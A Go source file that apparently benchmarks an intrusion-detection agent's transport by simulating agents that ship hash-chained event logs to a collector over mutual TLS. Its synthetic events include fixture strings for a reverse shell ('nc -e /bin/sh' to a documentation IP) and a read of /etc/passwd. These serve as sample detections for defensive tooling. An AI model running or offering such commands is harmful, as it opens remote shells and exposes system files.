package main

import (
	"context"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"sync"
	"time"

	"github.com/tripwire-project/tripwire/agent/transport"
	"github.com/tripwire-project/tripwire/collector/pki"
	"github.com/tripwire-project/tripwire/proto/batch"
	"github.com/tripwire-project/tripwire/proto/chain"
)

// simAgent is one simulated agent: its own host certificate, its own hash chain made in
// memory (payloads as the agent writes them: encoding/json of chain.Payload, seq first),
// shipped by the agent's own transport.Shipper over mutual TLS — registration, Arrow
// batches within a window of unacked entries, acks, resends, heartbeats, chain-hash
// probes, reconnects — so that the bench measures the agent's real transport.
//
// simAgent is the shipper's transport.Chain. Entries are kept from the last acked seq to
// the head (what a real agent resends from its chain on disk); of older ones only the
// hash. A chain-hash probe of an acked seq is answered "" (the bench's chains never
// depart from the collector's, so it is never asked).
type simAgent struct {
	name    string
	shipper *transport.Shipper
	// noticeEvery makes every n-th entry an agent notice rather than an event (0: none).
	noticeEvery uint64

	mu        sync.Mutex
	unbounded bool          // ReadFrom makes entries on demand (throughput)
	entries   []batch.Entry // seqs base..head: not yet acked
	base      uint64
	head      uint64
	hashes    [][32]byte // hash of seq i+1
	acked     uint64
	appended  chan struct{}
	sent      uint64 // highest seq read for sending
	onSend    func(hostID string, seq uint64, at time.Time)
}

var _ transport.Chain = (*simAgent)(nil)

func newSimAgent(name, addr string, cert pki.HostCert, batchSize int, window uint64, noticeEvery uint64) (*simAgent, error) {
	tc, err := transport.LoadClientTLS(cert.CAFile, cert.CertFile, cert.KeyFile, "localhost")
	if err != nil {
		return nil, err
	}
	a := &simAgent{name: name, noticeEvery: noticeEvery, base: 1, appended: make(chan struct{}, 1)}
	a.shipper = transport.New(a, transport.Options{
		Address: addr, TLS: tc.Config(), Hostname: name, Version: "bench", Kernel: "bench",
		BatchSize: batchSize, Window: window, MinBackoff: 100 * time.Millisecond, MaxBackoff: 2 * time.Second,
	})
	return a, nil
}

// run ships the chain until ctx ends.
func (a *simAgent) run(ctx context.Context) error {
	if err := a.shipper.Run(ctx); err != nil {
		return fmt.Errorf("agent %s: %w", a.name, err)
	}
	return nil
}

// hostID is the host id the collector registered the agent as ("" before).
func (a *simAgent) hostID() string { return a.shipper.Status().HostID }

// reconnects counts the sessions that ended in an error.
func (a *simAgent) reconnects() uint64 { return a.shipper.Status().Reconnects }

// Acked is the highest seq the collector acked.
func (a *simAgent) Acked() uint64 {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.acked
}

// headSeq is the chain's head.
func (a *simAgent) headSeq() uint64 {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.head
}

// Head is the chain's last seq and hash.
func (a *simAgent) Head() (uint64, string) {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.head, a.hashAtLocked(a.head)
}

// Appended receives a value after entries are appended (or made makeable).
func (a *simAgent) Appended() <-chan struct{} { return a.appended }

// setUnbounded switches between making entries as fast as they are shipped and
// appending only what appendEvent adds.
func (a *simAgent) setUnbounded(on bool) {
	a.mu.Lock()
	a.unbounded = on
	a.mu.Unlock()
	a.wake()
}

func (a *simAgent) wake() {
	select {
	case a.appended <- struct{}{}:
	default:
	}
}

// appendEvent appends one event entry now and wakes the sender.
func (a *simAgent) appendEvent() {
	a.mu.Lock()
	a.appendLocked(time.Now())
	a.mu.Unlock()
	a.wake()
}

// appendLocked makes entry head+1 at t.
func (a *simAgent) appendLocked(t time.Time) {
	seq := a.head + 1
	prev := chain.GenesisPrev
	if len(a.entries) > 0 {
		prev = a.entries[len(a.entries)-1].Hash
	} else if seq > 1 {
		prev = hex.EncodeToString(a.hashes[seq-2][:])
	}
	e := makeEntry(seq, t, prev, a.noticeEvery > 0 && seq%a.noticeEvery == 0)
	var h [32]byte
	hex.Decode(h[:], []byte(e.Hash))
	a.hashes = append(a.hashes, h)
	a.entries = append(a.entries, e)
	a.head = seq
}

// ReadFrom returns up to n entries from seq, making them first when unbounded, and
// reports the first read of each event to onSend: the shipper reads a batch just
// before it sends it.
func (a *simAgent) ReadFrom(seq uint64, n int) ([]batch.Entry, error) {
	es := a.readFrom(seq, n)
	if len(es) > 0 {
		a.noteSent(es)
	}
	return es, nil
}

func (a *simAgent) readFrom(seq uint64, n int) []batch.Entry {
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.unbounded {
		now := time.Now().UTC()
		for a.head < seq+uint64(n)-1 {
			a.appendLocked(now)
		}
	}
	if seq < a.base || seq > a.head {
		return nil
	}
	from := seq - a.base
	to := min(uint64(len(a.entries)), from+uint64(n))
	return a.entries[from:to:to]
}

// SetAcked drops the entries up to seq.
func (a *simAgent) SetAcked(seq uint64) error {
	a.mu.Lock()
	defer a.mu.Unlock()
	if seq <= a.acked || seq > a.head {
		return nil
	}
	a.acked = seq
	drop := seq + 1 - a.base
	a.entries = a.entries[drop:]
	a.base = seq + 1
	return nil
}

// hashAt is the hash of entry seq, "" for one the chain does not hold.
func (a *simAgent) hashAt(seq uint64) string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.hashAtLocked(seq)
}

func (a *simAgent) hashAtLocked(seq uint64) string {
	if seq == 0 || seq > a.head {
		return ""
	}
	return hex.EncodeToString(a.hashes[seq-1][:])
}

// noteSent reports the first read of each event entry to onSend (the latency run).
func (a *simAgent) noteSent(entries []batch.Entry) {
	a.mu.Lock()
	fn := a.onSend
	from := a.sent
	a.sent = max(a.sent, entries[len(entries)-1].Seq)
	a.mu.Unlock()
	if fn == nil {
		return
	}
	id := a.hostID()
	now := time.Now()
	for _, e := range entries {
		if e.Seq > from && e.Kind == string(chain.KindEvent) {
			fn(id, e.Seq, now)
		}
	}
}

var (
	types    = [...]string{chain.TypeFile, chain.TypeNetwork, chain.TypeProcess}
	sevs     = [...]string{chain.SeverityInfo, chain.SeverityWarn, chain.SeverityCritical}
	benchUID = int64(1000)
)

// makeEntry makes one chain entry linked to prev: an event like the agent records (a
// ~400-byte payload), or an agent notice.
func makeEntry(seq uint64, t time.Time, prev string, notice bool) batch.Entry {
	t = t.UTC().Round(0)
	p := chain.Payload{Seq: seq, Time: t, Kind: chain.KindEvent}
	if notice {
		p.Kind = chain.KindAgent
		p.Notice = &chain.Notice{What: "rules_applied", Message: "central rules applied: version 5f0c2d9e"}
	} else {
		i := int(seq % 3)
		ev := &chain.Event{Type: types[i], Rule: fmt.Sprintf("rule-%d", seq%7), Severity: sevs[(seq/3)%3], Source: "fanotify",
			PID: int32(1000 + seq%30000), PPID: 1, UID: &benchUID, User: "deploy", Exe: "/usr/bin/cat"}
		switch ev.Type {
		case chain.TypeFile:
			ev.Path, ev.Op, ev.Count, ev.Cmdline = "/etc/passwd", "read", 1, "cat /etc/passwd"
		case chain.TypeNetwork:
			ev.Source, ev.Protocol, ev.Direction, ev.Mode = "sockdiag", "tcp", "inbound", "decoy"
			ev.SrcIP, ev.SrcPort, ev.DstIP, ev.DstPort = "203.0.113.7", uint16(40000+seq%20000), "10.0.0.5", 2222
			ev.Exe, ev.Cmdline = "", ""
		case chain.TypeProcess:
			ev.Source, ev.Exe, ev.Cmdline, ev.ParentExe, ev.Cwd = "ebpf", "/usr/bin/nc", "nc -e /bin/sh 203.0.113.7 4444", "/bin/bash", "/tmp"
		}
		p.Event = ev
	}
	text, err := json.Marshal(p)
	if err != nil {
		panic(fmt.Sprintf("encoding a payload: %v", err)) // a fixed struct: cannot fail
	}
	e := batch.Entry{Seq: seq, Time: t, Kind: string(p.Kind), PrevHash: prev, Payload: text}
	if p.Event != nil {
		e.Type, e.Rule, e.Severity = p.Event.Type, p.Event.Rule, p.Event.Severity
	}
	e.Hash = chain.Hash(prev, text)
	return e
}
